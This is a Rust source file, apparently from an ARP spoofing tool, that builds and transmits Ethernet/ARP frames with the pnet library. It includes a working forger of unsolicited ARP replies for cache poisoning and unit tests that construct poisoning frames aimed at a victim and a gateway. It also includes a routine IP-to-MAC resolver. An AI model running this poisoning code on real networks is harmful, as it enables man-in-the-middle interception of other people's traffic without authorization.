//! Ethernet + ARP frame construction and transmission.
//!
//! Frames are exactly 42 bytes: a 14-byte Ethernet II header followed by
//! a 28-byte ARP payload, every multi-byte field big-endian on the wire.
//! Transmission opens a fresh link-layer channel per send; both the
//! scanner and the spoof engine are slow-path senders, so socket reuse
//! is not worth the shared state.

use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use log::debug;
use pnet::datalink::{self, Channel, Config, DataLinkReceiver, DataLinkSender, NetworkInterface};
use pnet::packet::arp::{ArpHardwareTypes, ArpOperation, ArpOperations, ArpPacket, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, EthernetPacket, MutableEthernetPacket};
use pnet::packet::Packet;
use pnet::util::MacAddr;

use crate::common::{Error, Result};

pub const ETHERNET_HEADER_LEN: usize = 14;
pub const ARP_PACKET_LEN: usize = 28;
pub const FRAME_LEN: usize = ETHERNET_HEADER_LEN + ARP_PACKET_LEN;

/// How often a blocked receiver wakes up to re-check its deadline.
const READ_TICK: Duration = Duration::from_millis(100);

fn build_frame(
    eth_dst: MacAddr,
    eth_src: MacAddr,
    operation: ArpOperation,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> [u8; FRAME_LEN] {
    let mut arp_buffer = [0u8; ARP_PACKET_LEN];
    {
        let mut arp = MutableArpPacket::new(&mut arp_buffer)
            .expect("ARP buffer sized to ARP_PACKET_LEN");
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(operation);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    let mut frame = [0u8; FRAME_LEN];
    let mut ethernet = MutableEthernetPacket::new(&mut frame)
        .expect("frame buffer sized to FRAME_LEN");
    ethernet.set_destination(eth_dst);
    ethernet.set_source(eth_src);
    ethernet.set_ethertype(EtherTypes::Arp);
    ethernet.set_payload(&arp_buffer);
    frame
}

/// Forged unsolicited reply. The Ethernet destination doubles as the ARP
/// target hardware address, matching what a genuine reply would carry.
pub fn build_reply(
    sender_mac: MacAddr,
    target_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_ip: Ipv4Addr,
) -> [u8; FRAME_LEN] {
    build_frame(
        target_mac,
        sender_mac,
        ArpOperations::Reply,
        sender_mac,
        sender_ip,
        target_mac,
        target_ip,
    )
}

/// Broadcast who-has request with a zeroed target hardware address.
pub fn build_request(src_mac: MacAddr, src_ip: Ipv4Addr, probe_ip: Ipv4Addr) -> [u8; FRAME_LEN] {
    build_frame(
        MacAddr::broadcast(),
        src_mac,
        ArpOperations::Request,
        src_mac,
        src_ip,
        MacAddr::zero(),
        probe_ip,
    )
}

fn open_channel(
    iface: &NetworkInterface,
    config: Config,
) -> Result<(Box<dyn DataLinkSender>, Box<dyn DataLinkReceiver>)> {
    match datalink::channel(iface, config) {
        Ok(Channel::Ethernet(tx, rx)) => Ok((tx, rx)),
        Ok(_) => Err(Error::kernel_op(format!(
            "unsupported link-layer channel on {}",
            iface.name
        ))),
        Err(e) => Err(Error::kernel_op(format!(
            "cannot open link-layer channel on {}: {}",
            iface.name, e
        ))),
    }
}

/// Sends one frame on the interface, closing the socket afterwards.
pub fn send_frame(iface: &NetworkInterface, frame: &[u8]) -> Result<()> {
    let (mut tx, _rx) = open_channel(iface, Config::default())?;
    match tx.send_to(frame, None) {
        Some(Ok(())) => Ok(()),
        Some(Err(e)) => Err(Error::kernel_op(format!("send on {}: {}", iface.name, e))),
        None => Err(Error::kernel_op(format!(
            "link-layer send on {} produced no result",
            iface.name
        ))),
    }
}

/// Short-lived IP→MAC resolver owning its own channel pair.
///
/// One resolver per scan job; never shared between threads.
pub struct ArpResolver {
    tx: Box<dyn DataLinkSender>,
    rx: Box<dyn DataLinkReceiver>,
    src_mac: MacAddr,
    src_ip: Ipv4Addr,
}

impl ArpResolver {
    pub fn open(iface: &NetworkInterface) -> Result<Self> {
        let src_mac = iface
            .mac
            .ok_or_else(|| Error::environment(format!("{} has no MAC address", iface.name)))?;
        let src_ip = iface
            .ips
            .iter()
            .find_map(|net| match net.ip() {
                std::net::IpAddr::V4(v4) => Some(v4),
                _ => None,
            })
            .ok_or_else(|| Error::environment(format!("{} has no IPv4 address", iface.name)))?;

        let config = Config {
            read_timeout: Some(READ_TICK),
            ..Config::default()
        };
        let (tx, rx) = open_channel(iface, config)?;
        Ok(ArpResolver { tx, rx, src_mac, src_ip })
    }

    /// Broadcasts a who-has probe and waits for the matching reply.
    ///
    /// `None` covers both "nobody answered" and transient socket errors;
    /// the scanner treats them identically.
    pub fn resolve(&mut self, probe_ip: Ipv4Addr, timeout: Duration) -> Option<MacAddr> {
        let request = build_request(self.src_mac, self.src_ip, probe_ip);
        match self.tx.send_to(&request, None) {
            Some(Ok(())) => {}
            Some(Err(e)) => {
                debug!("probe send to {} failed: {}", probe_ip, e);
                return None;
            }
            None => return None,
        }

        let deadline = Instant::now() + timeout;
        while Instant::now() < deadline {
            let bytes = match self.rx.next() {
                Ok(bytes) => bytes,
                // Read timeout tick; loop back and re-check the deadline.
                Err(_) => continue,
            };
            let ethernet = match EthernetPacket::new(bytes) {
                Some(pkt) => pkt,
                None => continue,
            };
            if ethernet.get_ethertype() != EtherTypes::Arp {
                continue;
            }
            let arp = match ArpPacket::new(ethernet.payload()) {
                Some(pkt) => pkt,
                None => continue,
            };
            if arp.get_operation() == ArpOperations::Reply
                && arp.get_sender_proto_addr() == probe_ip
                && arp.get_target_hw_addr() == self.src_mac
            {
                return Some(arp.get_sender_hw_addr());
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ATTACKER: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0x00, 0x01);
    const VICTIM: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0x00, 0x02);
    const GATEWAY: MacAddr = MacAddr(0x02, 0x00, 0x00, 0x00, 0x00, 0x03);

    #[test]
    fn reply_frame_byte_layout() {
        let victim_ip = Ipv4Addr::new(192, 168, 1, 10);
        let gateway_ip = Ipv4Addr::new(192, 168, 1, 1);

        // Victim-facing poison: "the gateway's IP lives at the attacker's MAC".
        let frame = build_reply(ATTACKER, VICTIM, gateway_ip, victim_ip);

        assert_eq!(frame.len(), 42);
        assert_eq!(&frame[0..6], &[0x02, 0, 0, 0, 0, 0x02], "eth dst = victim");
        assert_eq!(&frame[6..12], &[0x02, 0, 0, 0, 0, 0x01], "eth src = attacker");
        assert_eq!(&frame[12..14], &[0x08, 0x06], "EtherType ARP");
        assert_eq!(&frame[14..16], &[0x00, 0x01], "hw type ethernet");
        assert_eq!(&frame[16..18], &[0x08, 0x00], "proto type IPv4");
        assert_eq!(frame[18], 6, "hw addr len");
        assert_eq!(frame[19], 4, "proto addr len");
        assert_eq!(&frame[20..22], &[0x00, 0x02], "opcode reply");
        assert_eq!(&frame[22..28], &[0x02, 0, 0, 0, 0, 0x01], "SHA = attacker");
        assert_eq!(&frame[28..32], &[0xc0, 0xa8, 0x01, 0x01], "SPA = gateway IP");
        assert_eq!(&frame[32..38], &[0x02, 0, 0, 0, 0, 0x02], "THA = victim");
        assert_eq!(&frame[38..42], &[0xc0, 0xa8, 0x01, 0x0a], "TPA = victim IP");
    }

    #[test]
    fn gateway_facing_frame_swaps_roles() {
        let victim_ip = Ipv4Addr::new(192, 168, 1, 10);
        let gateway_ip = Ipv4Addr::new(192, 168, 1, 1);

        let frame = build_reply(ATTACKER, GATEWAY, victim_ip, gateway_ip);

        assert_eq!(&frame[0..6], &[0x02, 0, 0, 0, 0, 0x03], "eth dst = gateway");
        assert_eq!(&frame[22..28], &[0x02, 0, 0, 0, 0, 0x01], "SHA = attacker");
        assert_eq!(&frame[28..32], &[0xc0, 0xa8, 0x01, 0x0a], "SPA = victim IP");
        assert_eq!(&frame[32..38], &[0x02, 0, 0, 0, 0, 0x03], "THA = gateway");
        assert_eq!(&frame[38..42], &[0xc0, 0xa8, 0x01, 0x01], "TPA = gateway IP");
    }

    #[test]
    fn request_frame_broadcasts_with_zeroed_target() {
        let frame = build_request(
            ATTACKER,
            Ipv4Addr::new(10, 0, 0, 1),
            Ipv4Addr::new(10, 0, 0, 3),
        );

        assert_eq!(&frame[0..6], &[0xff; 6], "eth dst = broadcast");
        assert_eq!(&frame[20..22], &[0x00, 0x01], "opcode request");
        assert_eq!(&frame[32..38], &[0x00; 6], "THA zeroed");
        assert_eq!(&frame[38..42], &[10, 0, 0, 3], "TPA = probed IP");
    }

    #[test]
    fn frames_parse_back_with_pnet() {
        let frame = build_reply(
            ATTACKER,
            VICTIM,
            Ipv4Addr::new(192, 168, 1, 1),
            Ipv4Addr::new(192, 168, 1, 10),
        );
        let ethernet = EthernetPacket::new(&frame).unwrap();
        assert_eq!(ethernet.get_source(), ATTACKER);
        assert_eq!(ethernet.get_destination(), VICTIM);

        let arp = ArpPacket::new(ethernet.payload()).unwrap();
        assert_eq!(arp.get_operation(), ArpOperations::Reply);
        assert_eq!(arp.get_sender_hw_addr(), ATTACKER);
        assert_eq!(arp.get_target_hw_addr(), VICTIM);
    }
}
